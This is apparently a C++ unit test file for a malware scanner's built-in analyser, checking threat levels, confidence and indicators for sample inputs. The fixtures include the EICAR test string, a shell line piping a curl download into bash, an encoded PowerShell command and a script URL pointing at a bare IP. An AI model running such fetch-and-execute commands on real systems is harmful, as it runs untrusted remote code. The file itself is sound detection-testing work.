#include <athena/analyser.hpp>
#include <athena/rules.hpp>

#include <doctest/doctest.h>

#include <algorithm>
#include <filesystem>
#include <string>
#include <vector>

namespace fs = std::filesystem;
using athena::ThreatLevel;

namespace {

std::string eicar() {
    std::string text = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
    text += "EICAR-STANDARD-ANTIVIRUS";
    text += "-TEST-FILE!$H+H*";
    return text;
}

std::span<const std::uint8_t> bytes_of(const std::string& text) {
    return {reinterpret_cast<const std::uint8_t*>(text.data()), text.size()};
}

// Extracts evidence from text with the bundled rules, as a scan would.
struct BundledSetup {
    std::shared_ptr<athena::RuleSet> rules;
    std::unique_ptr<athena::EvidenceExtractor> extractor;
    std::unique_ptr<athena::Analyser> analyser;

    BundledSetup() {
        auto compiled = athena::RuleSet::compile({fs::path(ATHENA_RULES_DIR)});
        REQUIRE_MESSAGE(compiled.has_value(), compiled.error().message);
        rules = *compiled;
        auto created = athena::EvidenceExtractor::create(rules);
        REQUIRE(created.has_value());
        extractor = std::move(*created);
        analyser = athena::make_builtin_analyser(rules->content_hash());
    }

    athena::Evidence evidence_for(const std::string& content) const {
        auto evidence = extractor->extract("sample", bytes_of(content));
        REQUIRE(evidence.has_value());
        return *evidence;
    }

    athena::Verdict verdict_for(const std::string& content) const {
        auto verdict = analyser->analyse(evidence_for(content));
        REQUIRE(verdict.has_value());
        return *verdict;
    }
};

bool contains(const std::vector<std::string>& values, const std::string& value) {
    return std::ranges::find(values, value) != values.end();
}

athena::Verdict analyse_without_rules(const athena::Evidence& evidence) {
    auto verdict = athena::make_builtin_analyser("")->analyse(evidence);
    REQUIRE(verdict.has_value());
    return *verdict;
}

} // namespace

TEST_CASE("builtin analyser: identity") {
    SUBCASE("name, model and a profile with the rule hash prefix") {
        std::string hash(64, 'a');
        hash.replace(0, 16, "0123456789abcdef");

        auto analyser = athena::make_builtin_analyser(hash);

        CHECK(analyser->name() == "builtin");
        CHECK(analyser->model() == "builtin-1");
        CHECK(analyser->profile().find("builtin/1") != std::string::npos);
        CHECK(analyser->profile().find("rules/0123456789abcdef") != std::string::npos);
        CHECK(analyser->profile().find("rules/0123456789abcdefa") == std::string::npos);
    }

    SUBCASE("without rules the profile says so") {
        auto analyser = athena::make_builtin_analyser("");

        CHECK(analyser->profile().find("rules/none") != std::string::npos);
    }
}

TEST_CASE("builtin analyser: verdicts from bundled rules") {
    BundledSetup setup;

    SUBCASE("the EICAR test file is malicious with its family") {
        athena::Evidence evidence = setup.evidence_for(eicar());
        std::string file_type = evidence.file_type.substr(0, evidence.file_type.find(','));

        auto analysed = setup.analyser->analyse(evidence);

        REQUIRE(analysed.has_value());
        const athena::Verdict& verdict = *analysed;

        CHECK(verdict.threat_level == ThreatLevel::malicious);
        CHECK(verdict.malware_family == "EICAR-Test-File");
        CHECK(verdict.malware_type == "test-file");
        CHECK(verdict.signatures == std::vector<std::string>{"eicar_test_file"});
        CHECK(verdict.confidence == doctest::Approx(0.9));
        CHECK_FALSE(verdict.recommendations.empty());
        REQUIRE_FALSE(file_type.empty());
        CHECK(verdict.summary.starts_with(file_type));
        CHECK(verdict.summary.find("malicious") != std::string::npos);
    }

    SUBCASE("plain text is benign with nothing to report") {
        athena::Verdict verdict =
            setup.verdict_for("Meeting notes\nWe agreed to ship the release on Friday.\n");

        CHECK(verdict.threat_level == ThreatLevel::benign);
        CHECK(verdict.confidence == doctest::Approx(0.5));
        CHECK(verdict.signatures.empty());
        CHECK(verdict.behaviors.empty());
        CHECK(verdict.recommendations.empty());
        CHECK(verdict.iocs == athena::Iocs{});
        CHECK(verdict.malware_family.empty());
        CHECK(verdict.summary.find("benign") != std::string::npos);
    }

    SUBCASE("a script piping a download into a shell is at least suspicious") {
        athena::Verdict verdict =
            setup.verdict_for("#!/bin/sh\ncurl -s http://get.example.com/install.sh | bash\n");

        CHECK(verdict.threat_level >= ThreatLevel::suspicious);
        CHECK(contains(verdict.signatures, "download_pipe_to_shell"));
        CHECK(verdict.malware_type == "dropper");
        CHECK(contains(verdict.iocs.urls, "http://get.example.com/install.sh"));
        CHECK(contains(verdict.iocs.domains, "get.example.com"));
        CHECK_FALSE(verdict.recommendations.empty());
    }

    SUBCASE("the same evidence gives the same verdict") {
        athena::Evidence evidence = setup.evidence_for(eicar());

        auto first = setup.analyser->analyse(evidence);
        auto second = setup.analyser->analyse(evidence);

        REQUIRE(first.has_value());
        REQUIRE(second.has_value());
        CHECK(*first == *second);
    }
}

TEST_CASE("builtin analyser: levels and confidence") {
    SUBCASE("the highest severity wins and family comes from that rule") {
        athena::Evidence evidence;
        evidence.yara_matches = {
            {"packed", "packed", {}, "packed binary", "suspicious", "", "packed"},
            {"family_rule", "fam", {}, "known family", "critical", "Evil", "trojan"},
        };

        athena::Verdict verdict = analyse_without_rules(evidence);

        CHECK(verdict.threat_level == ThreatLevel::critical);
        CHECK(verdict.malware_family == "Evil");
        CHECK(verdict.malware_type == "trojan");
        CHECK(verdict.signatures == std::vector<std::string>{"family_rule", "packed"});
        CHECK(verdict.confidence == doctest::Approx(0.9));
    }

    SUBCASE("more suspicious findings raise confidence up to a cap") {
        athena::Evidence evidence;
        for (int i = 0; i < 10; ++i) {
            evidence.yara_matches.push_back(
                {"rule_" + std::to_string(i), "ns", {}, "", "suspicious", "", ""});
        }
        athena::Evidence two = evidence;
        two.yara_matches.resize(2);

        CHECK(analyse_without_rules(two).confidence == doctest::Approx(0.65));
        CHECK(analyse_without_rules(evidence).confidence == doctest::Approx(0.8));
    }

    SUBCASE("a rule without severity counts as suspicious, a benign one as nothing") {
        athena::Evidence unrated;
        unrated.yara_matches = {{"user_rule", "mine", {}, "", "", "", ""}};
        athena::Evidence informational;
        informational.yara_matches = {{"is_elf", "types", {}, "", "benign", "", ""}};

        CHECK(analyse_without_rules(unrated).threat_level == ThreatLevel::suspicious);
        CHECK(analyse_without_rules(informational).threat_level == ThreatLevel::benign);
    }
}

TEST_CASE("builtin analyser: heuristics") {
    SUBCASE("an encoded PowerShell command in the strings is suspicious") {
        athena::Evidence evidence;
        evidence.strings = {"cmd.exe /c powershell -NoP -EncodedCommand "
                            "JABzAD0AJwBoAGUAbABsAG8AJwA7ACAAJABzAA=="};

        athena::Verdict verdict = analyse_without_rules(evidence);

        CHECK(verdict.threat_level == ThreatLevel::suspicious);
        CHECK(verdict.confidence == doctest::Approx(0.6));
        CHECK(verdict.signatures.empty());
        CHECK(contains(verdict.iocs.processes, "powershell.exe"));
        CHECK(contains(verdict.iocs.processes, "cmd.exe"));
    }

    SUBCASE("the -ec alias counts as an encoded command") {
        athena::Evidence evidence;
        evidence.excerpt = "powershell.exe -ec JABzAD0AJwBoAGUAbABsAG8AJwA7ACAAJABzAA==\n";

        CHECK(analyse_without_rules(evidence).threat_level == ThreatLevel::suspicious);
    }

    SUBCASE("PowerShell with a short or missing encoded argument is benign") {
        athena::Evidence evidence;
        evidence.strings = {"powershell -ExecutionPolicy Bypass -File setup.ps1",
                            "powershell -enc abc"};

        CHECK(analyse_without_rules(evidence).threat_level == ThreatLevel::benign);
    }

    SUBCASE("a script fetching from a bare IP address is suspicious") {
        athena::Evidence evidence;
        evidence.is_text = true;
        evidence.mime_type = "text/x-shellscript";
        evidence.urls = {"http://203.0.113.9:8080/bot"};
        evidence.ips = {"203.0.113.9"};

        athena::Verdict verdict = analyse_without_rules(evidence);

        CHECK(verdict.threat_level == ThreatLevel::suspicious);
        CHECK(verdict.iocs.ips == std::vector<std::string>{"203.0.113.9"});
    }

    SUBCASE("a script fetching from a local address is benign") {
        athena::Evidence evidence;
        evidence.is_text = true;
        evidence.mime_type = "application/javascript";
        evidence.urls = {"http://127.0.0.1:3000/", "http://192.168.1.20/x", "http://172.20.0.5/",
                         "http://[::1]:8080/"};
        evidence.ips = {"127.0.0.1", "192.168.1.20", "172.20.0.5", "::1"};

        CHECK(analyse_without_rules(evidence).threat_level == ThreatLevel::benign);
    }

    SUBCASE("a document linking to a bare IP address is benign") {
        athena::Evidence evidence;
        evidence.is_text = true;
        evidence.mime_type = "text/plain";
        evidence.urls = {"http://203.0.113.9/"};
        evidence.ips = {"203.0.113.9"};

        CHECK(analyse_without_rules(evidence).threat_level == ThreatLevel::benign);
    }
}
